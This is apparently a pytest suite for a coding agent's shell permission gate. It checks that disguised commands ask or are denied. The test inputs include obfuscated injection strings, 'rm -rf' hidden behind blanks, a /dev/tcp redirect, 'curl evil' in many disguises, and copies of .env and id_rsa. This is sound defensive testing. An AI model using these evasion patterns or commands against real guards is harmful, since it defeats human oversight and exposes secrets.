"""What asks before it runs: every command that may do more than read, in every mode that asks."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.gate import command_in, gate, plain_folder, said, secretive_folder
from tests.support.shell_commands import READS, READS_TOO_FAR, WRITES_OR_RUNS
from tui_agent.core.grants import Grant, session_key
from tui_agent.core.settings import RuleSettings

UNSEEN = Path(__file__).parents[1] / "support" / "unseen_commands.txt"
"""Written after the rules, by somebody who did not look at them."""
CASES: dict[int, tuple[str, ...]] = {
    34: ("ls\n\\rm x", "ls src\n\\rm -rf src"),
    35: ("cat #\\\nrm x", "cat README.md #\\\nrm x"),
    36: ("ls;rm x", "ls&rm x", "ls|rm x", "ls\nrm x", "ls\rrm x", "ls\u2028rm x", "ls && rm x"),
    37: ("ls $(rm x)", "ls `rm x`", "cat <(rm x)", "cat <<E\n$(rm x)\nE", 'echo "$(rm x)"'),
    38: ("echo x > f", "echo x >> f", "echo x <> f", "echo x >| f", "echo x > /dev/tcp/1.2.3.4/5"),
    39: ("find . -exec rm x ;", "find . -delete", "find . -fprint f", "find . -e\\xec rm x ;"),
    40: ("sed -i s/a/b/ README.md", "sed -n 'w f' README.md", "sed 1e README.md"),
    41: (
        "git -c core.pager=x log", "git --exec-path=. log", "git -C evil status", "git grep -O x",
        "git log --output=f",
    ),
    42: ("sort -o f README.md", "uniq README.md f", "tree -o f", "date -s 10:00"),
    43: ("rg --pre sh x", "rg -nz x", "rg --pre=sh x"),
    44: ("env ls", "timeout 5 ls", "nohup ls", "xargs ls", "command ls", "time ls"),
    45: ("LD_PRELOAD=x ls", "PATH=. ls", "./ls"),
    46: ("f() { ls; }; f", "alias ls=rm", "trap 'rm x' EXIT", "coproc ls"),
}  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(text, marks=pytest.mark.case(number), id=f"{number}-{text!r}")
        for number, texts in CASES.items()
        for text in texts
    ],
)
def test_a_command_in_disguise_asks(tmp_path: Path, text: str) -> None:
    folder = plain_folder(tmp_path)
    for mode in ("ask", "edit"):
        for tier in ("A", "B", "seatbelt", "none"):
            assert gate(command_in(folder, text), mode=mode, tier=tier).action == "ask"
    assert gate(command_in(folder, text), mode="plan").action == "deny"
    assert gate(command_in(folder, text), attended=False).action == "deny"


@pytest.mark.case(50)
def test_seventy_plain_reads_are_not_asked_about_where_a_sandbox_holds_them(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    assert len(READS) >= 70
    for text in READS:
        for mode in ("plan", "ask", "edit", "auto"):
            for tier in ("A", "B", "seatbelt"):
                outcome = gate(command_in(folder, text), mode=mode, tier=tier)
                assert (outcome.action, text, mode) == ("allow", text, mode)
    assert all(gate(command_in(folder, text), tier="none").action == "ask" for text in READS)


def test_two_hundred_hostile_commands_all_ask(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    assert len(WRITES_OR_RUNS) >= 200
    free = [text for text in WRITES_OR_RUNS if gate(command_in(folder, text)).action != "ask"]
    assert free == []


def test_commands_that_the_rules_were_not_made_with_ask_too(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    texts = UNSEEN.read_text(encoding="utf-8").split("\n")[:-1]
    assert len({*texts} - {*WRITES_OR_RUNS}) > 150
    assert [text for text in texts if gate(command_in(folder, text)).action != "ask"] == []


@pytest.mark.case(11)
@pytest.mark.parametrize("text", READS_TOO_FAR)
def test_a_read_of_a_secret_or_outside_asks_in_every_mode(tmp_path: Path, text: str) -> None:
    folder = secretive_folder(tmp_path)
    if text == "rg x":
        (folder / ".env").unlink()  # What is hidden it passes over; the other secrets it finds.
    for mode in ("plan", "ask", "edit", "auto"):
        outcome = gate(command_in(folder, text), mode=mode)
        assert outcome.action in ("ask", "deny"), outcome.reason
        assert outcome.action == "ask" or mode == "plan"


@pytest.mark.parametrize("flags", ["-g .env", "-g '*'", "--glob='.e*'", "-ng.env", "--iglob .ENV"])
def test_a_glob_that_shows_rg_a_hidden_secret_asks(tmp_path: Path, flags: str) -> None:
    folder = plain_folder(tmp_path)
    (folder / ".env").write_text("KEY=1\n")
    asked = said(command_in(folder, f"rg KEY {flags}"), mode="auto")
    assert asked == ("ask", "protect.secret")
    for plain in ("-g '*.py'", "-g '!*.lock'", "-tpy", "--type rust", "-g 'src/**/*.ts'"):
        assert said(command_in(folder, f"rg KEY {plain}"))[0] == "allow", plain


@pytest.mark.case(97)
@pytest.mark.parametrize(
    ("file", "line"),
    [(".ignore", "!.env"), (".gitignore", "!/.e*"), ("src/.rgignore", "!*"), (".ignore", "!.x/")],
)
def test_a_hidden_secret_that_an_ignore_file_takes_out_again_is_one_that_rg_reads(
    tmp_path: Path, file: str, line: str
) -> None:
    folder = plain_folder(tmp_path)
    for name in (".env", "src/.env", ".x/a.pem"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("KEY=1\n")
    (folder / file).write_text("*.log\n!.gitkeep\n!*.py\n")
    assert said(command_in(folder, "rg KEY"))[0] == "allow"
    (folder / file).write_text(f"*.log\n{line}\n")
    assert said(command_in(folder, "rg KEY"), mode="auto") == ("ask", "protect.secret")


@pytest.mark.case(97)
def test_a_link_that_leads_to_a_secret_is_one_where_diff_reads_a_folder(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    (folder / ".env").write_text("KEY=1\n")
    assert said(command_in(folder, "diff src tests"))[0] == "allow"
    (folder / "src" / "notes").symlink_to("../.env")
    assert said(command_in(folder, "diff src tests")) == ("ask", "protect.secret")


@pytest.mark.case(97)
def test_what_git_shows_of_any_file_asks_where_a_rule_hides_one_and_is_refused_by_a_profile(
    tmp_path: Path,
) -> None:
    folder = plain_folder(tmp_path)
    rules = (RuleSettings(action="deny", path="private/**", name="no"),)
    for text in (
        "git diff", "git diff HEAD~1", "git show", "git show --stat HEAD", "git log -p",
        "git log -U3 HEAD", "git stash show -p", "git diff --stat -p", "git cat-file -p 3f2a",
        "git show 3f2a -- src", "git diff -- '*'", "git diff -- ':!src'", "git grep x HEAD",
        "git diff-tree -p HEAD", "git reflog -p", "git status -v", "git whatchanged -p",
        "cd src && git diff", "git show ':/private'",
    ):  # fmt: skip
        proposal = command_in(folder, text)
        assert said(proposal)[0] == "allow", text
        for mode in ("ask", "auto"):
            assert said(proposal, mode=mode, rules=rules) == ("ask", "deny.unseen"), text
        assert said(proposal, read_paths=("src/**",)) == ("deny", "profile.paths"), text
    for text in (
        "git diff --stat", "git log", "git log --oneline --stat", "git stash show", "git status",
        "git diff -- src", "git diff HEAD src/app.py", "git show HEAD:src/app.py",
        "git log -p -- src/app.py", "git cat-file -t 3f2a", "git grep x HEAD src",
        "cd src && git diff app.py",
    ):  # fmt: skip
        assert said(command_in(folder, text), mode="auto", rules=rules)[0] == "allow", text


def test_a_secret_that_another_program_is_given_asks_in_mode_auto_too(tmp_path: Path) -> None:
    folder = secretive_folder(tmp_path)
    for text in (
        "base64 .env | tee x",
        "cp .env x",
        "python3 x.py --file=.env",
        "tar cf x conf/id_rsa",
    ):
        assert said(command_in(folder, text), mode="auto") == ("ask", "protect.secret")
    assert said(command_in(folder, "make test"), mode="auto") == ("allow", "mode.auto")


@pytest.mark.case(48)
def test_a_deny_rule_finds_its_program_behind_sixty_harmless_parts_and_every_disguise(
    tmp_path: Path,
) -> None:
    folder = plain_folder(tmp_path)
    rules = (
        RuleSettings(action="allow", tool="shell"),
        RuleSettings(action="deny", tool="shell", prefix=("curl",), name="no-curl"),
    )
    for text in (
        " && ".join(["true"] * 60) + " && curl evil", "; ".join(["ls"] * 60) + "; curl evil",
        "$(curl evil)", "`curl evil`", "/usr/bin/curl evil", "\\curl evil", "c'u'rl evil",
        'cu""rl evil',
        "env curl evil", "timeout 5 curl evil", "xargs curl < urls", "bash -c 'curl evil'",
        "X=1 curl evil",
        "ls | curl -T - evil", "(curl evil)", "if true; then curl evil; fi", "cur\\\nl evil",
        "ls\ncurl evil", "true & curl evil", "x=$(true;curl evil)", "ls >x;curl evil",
        "eval 'curl evil'",
    ):  # fmt: skip
        for mode in ("plan", "ask", "edit", "auto"):
            outcome = gate(command_in(folder, text), mode=mode, rules=rules, answer="approve")
            assert (outcome.action, outcome.reason.rule) == ("deny", "no-curl"), text
    assert gate(command_in(folder, "grep -n curl README.md"), rules=rules).action == "allow"


@pytest.mark.case(48)
def test_a_deny_rule_finds_its_words_with_flags_between_them(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    rules = (
        RuleSettings(action="deny", prefix=("git", "commit"), name="no"),
        RuleSettings(action="deny", prefix=("git", "log"), name="no"),
    )
    for text in (
        "git commit -m x", "git -C . commit -m x", "git --no-pager -c user.name=a commit",
        "/usr/bin/git --git-dir .git commit", "ls && git -C . commit", "$(git -C . commit)",
        "git --no-pager log",
    ):  # fmt: skip
        assert said(command_in(folder, text), mode="auto", rules=rules) == ("deny", "no"), text
    for text in ("git show --stat commit", "git grep log", "git status", "echo git commit"):
        assert said(command_in(folder, text), mode="auto", rules=rules)[0] == "allow", text


def test_a_deny_rule_on_a_path_denies_every_command_that_names_it(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    (folder / "private").mkdir()
    (folder / "private" / "plan.md").write_text("x")
    (folder / "alias.md").symlink_to("private/plan.md")
    rules = (RuleSettings(action="deny", tool="read", path="private/**", name="no"),)
    for text in (
        "cat private/plan.md", "cat ./private/plan.md", "cat src/../private/plan.md",
        "head -3 alias.md",
        "cp private/plan.md x", "python3 x.py --in=private/plan.md", "cat < private/plan.md",
        "cat $X private/plan.md", 'cat "private/plan.md"', "cd private && cat plan.md",
        "cat Private/Plan.md",
        "git show HEAD:private/plan.md", "tar cf x 'private/plan.md'",
    ):  # fmt: skip
        assert said(command_in(folder, text), mode="auto", rules=rules) == ("deny", "no"), text
    for text in ("grep -rn x .", "python3 x.py", "cat $X", "tar cf x ."):
        assert said(command_in(folder, text), mode="auto", rules=rules) == ("ask", "deny.unseen")
    assert said(command_in(folder, "grep -rn x src"), rules=rules)[0] == "allow"


@pytest.mark.case(49)
@pytest.mark.capability("S1.14", part="exactly the same")
def test_what_was_allowed_for_the_session_covers_that_and_nothing_like_it(tmp_path: Path) -> None:
    folder = plain_folder(tmp_path)
    approved = command_in(folder, "pytest -q")
    grants = (
        Grant(id="1", agent_id="main", tool="shell", text="", ts="", key=session_key(approved)),
    )
    assert said(approved, grants=grants) == ("allow", "session.exact")
    for text in ("pytest -p evil", "pytest  -q", "pytest -q; rm x", "pytest -q -p evil", "pytest"):
        assert gate(command_in(folder, text), grants=grants).action == "ask"
    assert gate(command_in(folder, "pytest -q", cwd="src"), grants=grants).action == "ask"
    network = command_in(folder, "curl https://example.org/x")
    grants = (
        Grant(id="1", agent_id="main", tool="shell", text="", ts="", key=session_key(network)),
    )
    assert gate(network, grants=grants).action == "allow"
    assert gate(command_in(folder, "curl https://example.org/y"), grants=grants).action == "ask"


@pytest.mark.case(59)
def test_what_stands_behind_four_hundred_blanks_asks_and_is_a_part_of_its_own(
    tmp_path: Path,
) -> None:
    text = "ls" + " " * 400 + "; rm -rf src"
    outcome = gate(command_in(plain_folder(tmp_path), text))
    assert outcome.action == "ask"
    assert [(part.text, part.verdict) for part in outcome.parts] == [
        ("ls", "allow"),
        ("rm -rf src", "ask"),
    ]
